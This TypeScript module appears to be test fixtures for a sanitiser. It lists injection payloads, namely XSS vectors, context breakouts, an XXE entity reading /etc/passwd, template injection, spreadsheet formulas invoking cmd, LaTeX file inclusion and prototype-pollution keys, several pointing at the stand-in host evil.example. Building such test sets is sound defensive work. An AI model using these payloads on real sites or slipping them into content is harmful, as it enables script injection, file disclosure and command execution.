/** What a payload sets where it runs, on the global object of whatever page it runs in. */
export const RAN = 'payloadRan';

const RUN = `globalThis.${RAN}=1`;
const ENCODED = `globalThis[String.fromCharCode(${[...RAN].map((letter) => letter.charCodeAt(0)).join()})]=1`;

/**
 * Texts that have run, or have broken out of where they stood, in one program or another. Each goes into every place
 * that a page, a file or a reader can write to.
 */
export const PAYLOADS: readonly string[] = [
  // Elements that run.
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src="x"/onerror="${RUN}">`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<object data="javascript:${RUN}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<a href="javascript:${RUN}">here</a>`,
  // Out of where they stand.
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}`,
  `' onfocus='${RUN}' autofocus='`,
  `\` onerror=\`${RUN}`,
  `"><img src=x onerror=${RUN}>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script><![CDATA[`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  // Addresses, styles and code that is made of texts.
  `javascript:${RUN}`,
  `jAvAsCrIpT&colon;${RUN}`,
  `java\tscript:${ENCODED}`,
  `data:text/html,<script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `';${RUN};//`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `;background:url(https://evil.example/x);x:expression(${RUN})`,
  `}*{background:url("https://evil.example/x")}`,
  `[a](javascript:${RUN}) ![b](https://evil.example/x)`,
  `| a | <img src=x onerror=${RUN}> |`,
  // Cells, markup of other programs, and characters that are not what they seem.
  `=HYPERLINK("https://evil.example";"here")`,
  `+cmd|' /C calc'!A1`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\\input{/etc/passwd} @article{x, title={y}}`,
  `TY  - JOUR\r\nER  - `,
  `\u2028${RUN}\u2029`,
  `\u202Egpj.${RUN}\u202C`,
  `\u0000<img src=x onerror=${RUN}>`.replace('\u0000', '\uFFFE'),
  '__proto__',
  'constructor',
];
